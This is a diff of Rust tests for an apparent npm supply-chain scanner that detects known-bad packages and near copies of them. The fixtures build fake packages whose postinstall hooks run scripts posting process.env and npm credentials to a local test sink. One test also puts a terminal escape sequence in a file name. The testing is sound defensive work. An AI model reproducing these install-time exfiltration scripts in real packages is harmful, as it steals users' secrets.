@@ -490,3 +490,171 @@ fn code_alone_neither_decides_on_a_long_habit_nor_teaches() {
     assert!(known.contains("quayside-tool@1.29.0, after.js"), "{known}");
     sink.assert_untouched();
 }
+
+/// A library that reads a file for whoever asks, as honest packages bundle it.
+fn reader() -> String {
+    let mut text = String::from(
+        "'use strict';\nconst fs = require('fs');\nexports.read = function (path) {\n  \
+         return fs.readFileSync(path, 'utf8');\n};\nexports.environment = function () {\n  \
+         return JSON.stringify(process.env);\n};\n",
+    );
+    text.push_str(&library("docs.example"));
+    text
+}
+
+#[test]
+fn files_of_honest_packages_in_a_hostile_one_are_not_held_against_them() {
+    let (world, sink, registry) = (World::new(), Sink::start(), Registry::start());
+    let reader = reader();
+    let thief = format!(
+        "const reader = require('./lib/reader.js');\nconst http = require('http');\n\
+         const gone = http.request('{}', {{ method: 'POST' }});\n\
+         gone.end(reader.environment());\n",
+        sink.url()
+    );
+    let own = aimed_at(NPM_CREDENTIALS, &sink.url());
+    registry.add(
+        Package::new("grey-heron").maintainer("grey").release(
+            Release::new("1.0.0")
+                .published("2026-11-14T09:00:00Z")
+                .script("postinstall", "node setup.js && node steal.js")
+                .file("index.js", "exports.nothing = 1;\n")
+                .file("lib/reader.js", reader.as_str())
+                .file("setup.js", thief)
+                .file("steal.js", own.as_str()),
+        ),
+    );
+    let honest = |name: &str, published: &str| {
+        Package::new(name).maintainer("hon").release(
+            Release::new("1.0.0")
+                .published(published)
+                .script("postinstall", "node vendor/reader.js")
+                .file("index.js", "exports.it = require('./vendor/reader.js');\n")
+                .file("vendor/reader.js", reader.as_str()),
+        )
+    };
+    registry.add(honest("honest-application", "2026-11-16T09:00:00Z"));
+    let inspect = |what: &str| {
+        let run = world.run_before(&registry, &["inspect", "--json", what]);
+        run.stdout
+    };
+    let refused = inspect("grey-heron@1.0.0");
+    assert!(refused.contains(r#""decisive":true"#), "{refused}");
+    let known = world.run(&["known-bad", "show"]).stdout;
+    assert!(known.contains("grey-heron@1.0.0, steal.js"), "{known}");
+    assert!(
+        !known.contains("grey-heron@1.0.0, lib/reader.js  "),
+        "{known}"
+    );
+    assert!(
+        known.contains("grey-heron@1.0.0  near copies of it"),
+        "{known}"
+    );
+    let fine = inspect("honest-application@1.0.0");
+    assert!(!fine.contains("known-bad-content"), "{fine}");
+    sink.assert_untouched();
+}
+
+/// What stole elsewhere: `published` says when a package first had it.
+fn with_thief(name: &str, by: &str, thief: &str, published: &[&str]) -> Package {
+    let releases = published.iter().enumerate().map(|(number, published)| {
+        Release::new(format!("1.{number}.0"))
+            .published(published)
+            .script("postinstall", "node setup.js")
+            .file("index.js", library(&format!("{name}.example")))
+            .file("setup.js", thief)
+    });
+    releases.fold(Package::new(name).maintainer(by), Package::release)
+}
+
+#[test]
+fn who_had_it_long_before_is_no_copy_and_who_had_it_a_little_before_is() {
+    let (world, sink, registry) = (World::new(), Sink::start(), Registry::start());
+    let thief = aimed_at(NPM_CREDENTIALS, &sink.url());
+    registry.add(with_thief(
+        "marsh-copy",
+        "mallory",
+        &thief,
+        &["2026-11-15T09:00:00Z"],
+    ));
+    let original = [
+        "2025-01-01T09:00:00Z",
+        "2025-12-01T09:00:00Z",
+        "2026-11-18T09:00:00Z",
+    ];
+    registry.add(with_thief("willow-dates", "ines", &thief, &original));
+    let sibling = ["2026-11-14T09:00:00Z", "2026-11-18T09:00:00Z"];
+    registry.add(with_thief("moss-runner", "mallory", &thief, &sibling));
+    let inspect = |what: &str| {
+        let run = world.run_before(&registry, &["inspect", "--json", what]);
+        run.stdout
+    };
+    let refused = inspect("marsh-copy@1.0.0");
+    assert!(refused.contains(r#""decisive":true"#), "{refused}");
+    for signal in ["known-bad-content", "near-copy"] {
+        let copy = inspect("moss-runner@1.1.0");
+        assert!(copy.contains(signal), "{signal}: {copy}");
+        let original = inspect("willow-dates@1.2.0");
+        assert!(!original.contains(signal), "{signal}: {original}");
+    }
+    sink.assert_untouched();
+}
+
+#[test]
+fn near_copies_of_each_version_that_was_taken_in_are_told() {
+    let (world, registry) = (World::new(), Registry::start());
+    let other = |text: String| {
+        text.replace("operation", "task")
+            .replace("word", "saying")
+            .replace("part", "piece")
+    };
+    let versions = [
+        ("1.0.0", library("collector.invalid")),
+        (
+            "2.0.0",
+            other(library("collector.invalid")).replace("first", "second"),
+        ),
+    ];
+    for (version, code) in &versions {
+        let manifest = format!(r#"{{"name": "sample-x", "version": "{version}"}}"#);
+        let file = format!("samples/x-{version}.tgz");
+        package(
+            &world,
+            &file,
+            &[("package.json", &manifest), ("index.js", code)],
+        );
+    }
+    let run = world.run_before(&registry, &["known-bad", "import", "samples"]);
+    run.assert_success();
+    let shown = || world.run(&["known-bad", "show"]).stdout;
+    for (version, code) in &versions {
+        let listed = format!("sample-x@{version}  near copies of it  listed as malicious");
+        assert!(shown().contains(&listed), "{}", shown());
+        let file = package(
+            &world,
+            "copy.tgz",
+            &[("package.json", MANIFEST), ("index.js", code)],
+        );
+        let found = world.run_before(&registry, &["inspect", "--json", &file]);
+        let told = format!("that of sample-x@{version}, which was refused");
+        assert!(found.stdout.contains(&told), "{}", found.text());
+    }
+    let forget = |what: &str| world.run(&["known-bad", "forget", what]);
+    forget("sample-x@1.0.0").assert_success();
+    assert!(!shown().contains("sample-x@1.0.0") && shown().contains("sample-x@2.0.0"));
+    forget("sample-x").assert_success();
+    assert_eq!(shown(), "");
+}
+
+#[cfg(unix)]
+#[test]
+fn names_of_samples_are_told_without_what_a_terminal_obeys() {
+    let (world, registry) = (World::new(), Registry::start());
+    world.write("work/samples/a.txt", digest("a"));
+    let link = world.write("work/aside", "x").with_file_name("samples");
+    std::os::unix::fs::symlink("../aside", link.join("ln\u{1b}[31mred")).unwrap();
+    let run = world.run_before(&registry, &["known-bad", "import", "samples"]);
+    assert_eq!(run.code, Some(1), "{}", run.text());
+    assert!(run.stderr.contains("no regular file"), "{}", run.text());
+    assert!(!run.stderr.contains('\u{1b}'), "{:?}", run.stderr);
+}
